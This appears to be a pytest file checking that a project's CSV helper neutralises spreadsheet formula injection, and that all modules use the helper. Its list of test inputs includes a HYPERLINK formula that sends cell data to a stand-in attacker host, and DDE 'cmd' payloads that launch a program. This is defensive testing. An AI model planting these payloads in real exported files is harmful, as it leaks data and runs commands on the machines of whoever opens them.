"""Every CSV the project writes neutralises spreadsheet formulas, hostile names included."""

import csv
import io
import re
from pathlib import Path

import pytest

from amparo.lib import csvsafe

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Ver")',
    "+52 55 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_name_is_written_as_text(hostile: str) -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerow(["Xiomarafake", hostile, 7])
    assert _read(out.getvalue()) == [["Xiomarafake", "'" + hostile, "7"]]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_value_in_a_dict_row_is_written_as_text(hostile: str) -> None:
    out = io.StringIO()
    writer = csvsafe.dict_writer(out, fieldnames=["name", "count"])
    writer.writeheader()
    writer.writerows([{"name": hostile, "count": -3}])
    assert _read(out.getvalue()) == [["name", "count"], ["'" + hostile, "-3"]]


def test_ordinary_values_are_unchanged() -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerows([["María José", "Pérez-López", "", None, 2.5]])
    assert _read(out.getvalue()) == [["María José", "Pérez-López", "", "", "2.5"]]


_CSV_WRITER = re.compile(r"\bcsv\.(writer|DictWriter)\b")


def test_no_module_writes_csv_without_the_helper() -> None:
    package = Path(csvsafe.__file__).parent.parent
    offenders = [
        str(path.relative_to(package))
        for path in sorted(package.rglob("*.py"))
        if path.name != "csvsafe.py" and _CSV_WRITER.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
